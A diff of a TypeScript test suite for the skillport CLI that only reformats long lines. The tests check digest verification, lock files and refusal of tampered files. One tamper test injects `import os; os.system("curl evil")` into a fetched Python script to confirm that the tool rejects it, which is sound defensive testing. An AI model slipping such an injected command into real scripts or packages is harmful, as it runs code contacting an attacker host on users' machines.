@@ -49,7 +49,10 @@ describe('skillport ls, show, cat, install', () => {
     assert.equal(show.code, 0, show.stderr);
     assert.match(show.stdout, /^files \(4\):$/m);
     assert.match(show.stdout, /assets\/sample\.csv {2}858 bytes {2}sha256:/);
-    const showJson = JSON.parse((await runCli(['show', '--json', server.url, 'csv-data-cleaning'])).stdout) as { files: unknown[]; frontmatter: { license: string } };
+    const showJson = JSON.parse((await runCli(['show', '--json', server.url, 'csv-data-cleaning'])).stdout) as {
+      files: unknown[];
+      frontmatter: { license: string };
+    };
     assert.equal(showJson.files.length, 4);
     assert.equal(showJson.frontmatter.license, 'Apache-2.0');
     const cat = await runCli(['cat', server.url, 'csv-data-cleaning', 'assets/sample.csv']);
@@ -76,7 +79,10 @@ describe('skillport ls, show, cat, install', () => {
   test('cat from a tampered server refuses the file and exits 1', async () => {
     proxy.tamper = (method, params, result) => {
       if (method !== 'resources/read' || !String(params['uri']).endsWith('sample.csv')) return result;
-      const contents = (result['contents'] as Array<Record<string, unknown>>).map((content) => ({ ...content, text: String(content['text']).replace('Ana', 'Eve') }));
+      const contents = (result['contents'] as Array<Record<string, unknown>>).map((content) => ({
+        ...content,
+        text: String(content['text']).replace('Ana', 'Eve'),
+      }));
       return { ...result, contents };
     };
     try {
@@ -99,7 +105,9 @@ describe('skillport ls, show, cat, install', () => {
       assert.match(first.stderr, /installed alpha \(2 files\)/);
       assert.equal(readFileSync(join(target, 'alpha/references/a.md'), 'utf8'), 'A\n');
       assert.equal(readFileSync(join(target, 'beta/SKILL.md'), 'utf8'), skillMd('beta'));
-      const lock = JSON.parse(readFileSync(join(target, 'skillport.lock.json'), 'utf8')) as { skills: Record<string, { uri: string; packageDigest: string; files: Record<string, string> }> };
+      const lock = JSON.parse(readFileSync(join(target, 'skillport.lock.json'), 'utf8')) as {
+        skills: Record<string, { uri: string; packageDigest: string; files: Record<string, string> }>;
+      };
       assert.deepEqual(Object.keys(lock.skills), ['alpha', 'beta']);
       assert.equal(lock.skills['alpha']!.files['references/a.md'], sha256Digest('A\n'));
       assert.equal(lock.skills['alpha']!.uri, 'skill://alpha/SKILL.md');
@@ -107,7 +115,13 @@ describe('skillport ls, show, cat, install', () => {
 
       const frozen = await runCli(['install', live.url, '--to', target, '--frozen', '--json']);
       assert.equal(frozen.code, 0, frozen.stderr);
-      assert.deepEqual((JSON.parse(frozen.stdout) as { results: Array<{ name: string; ok: boolean }> }).results.map((result) => [result.name, result.ok]), [['alpha', true], ['beta', true]]);
+      assert.deepEqual(
+        (JSON.parse(frozen.stdout) as { results: Array<{ name: string; ok: boolean }> }).results.map((result) => [result.name, result.ok]),
+        [
+          ['alpha', true],
+          ['beta', true],
+        ],
+      );
 
       // The server's copy changes: --frozen refuses it and keeps the installed copy; without --frozen it updates.
       writeFileSync(join(source, 'alpha/references/a.md'), 'changed\n');
@@ -150,7 +164,10 @@ describe('skillport ls, show, cat, install', () => {
     const before = readFileSync(join(target, 'csv-data-cleaning/scripts/profile_csv.py'));
     proxy.tamper = (method, params, result) => {
       if (method !== 'resources/read' || !String(params['uri']).endsWith('profile_csv.py')) return result;
-      const contents = (result['contents'] as Array<Record<string, unknown>>).map((content) => ({ ...content, text: `import os; os.system("curl evil")\n${String(content['text'])}` }));
+      const contents = (result['contents'] as Array<Record<string, unknown>>).map((content) => ({
+        ...content,
+        text: `import os; os.system("curl evil")\n${String(content['text'])}`,
+      }));
       return { ...result, contents };
     };
     try {
